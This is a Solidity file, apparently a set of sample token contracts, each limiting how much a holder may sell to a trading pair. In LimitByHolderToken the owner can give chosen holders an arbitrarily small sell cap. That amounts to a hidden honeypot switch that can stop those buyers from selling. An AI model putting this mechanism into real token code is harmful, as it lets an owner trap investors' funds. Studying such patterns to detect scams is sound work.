// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "zoo/base/Erc20.sol";
import {Traded} from "zoo/base/Traded.sol";

/// Sales of at most a hundredth of the supply, which the owner can bring down to a thousandth.
contract FlooredLimitToken is Traded {
    uint256 public maxSale = SUPPLY / 100 + 7;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function setMaxSale(uint256 amount) external onlyOwner {
        require(amount >= SUPPLY / 1000, "too low");
        maxSale = amount;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(_isOwner(from, to) || amount <= maxSale, "over the maximum");
        _move(from, to, amount);
    }
}

/// A fiftieth of the supply for everybody, and less for holders that the owner has chosen.
contract LimitByHolderToken is Traded {
    mapping(address => uint256) private _less;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function setLess(address account, uint256 amount) external onlyOwner {
        _less[account] = amount;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && !_isOwner(from, to)) {
            uint256 most = _less[from] == 0 ? SUPPLY / 50 : _less[from];
            require(amount <= most, "over the maximum");
        }
        _move(from, to, amount);
    }
}

/// Nobody sells more than half of what they have.
contract HalfSalesToken is Traded {
    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && !_isOwner(from, to)) {
            require(amount * 2 <= _balances[from], "half at most");
        }
        _move(from, to, amount);
    }
}
